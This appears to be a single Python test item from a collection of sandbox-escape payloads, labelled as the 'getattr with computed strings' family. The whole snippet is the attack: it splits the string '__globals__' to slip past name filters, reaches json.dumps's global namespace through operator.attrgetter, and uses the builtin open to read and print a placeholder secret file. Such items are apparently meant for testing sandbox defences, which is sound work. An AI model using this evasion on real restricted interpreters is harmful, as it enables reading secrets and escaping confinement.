# family: getattr with computed strings (operator.attrgetter)
# goal: read __globals__ with attrgetter
import operator
import json
g = operator.attrgetter("__glob" + "als__")(json.dumps)
print(g["__builtins__"]["open"]("__SECRET_PATH__").read())
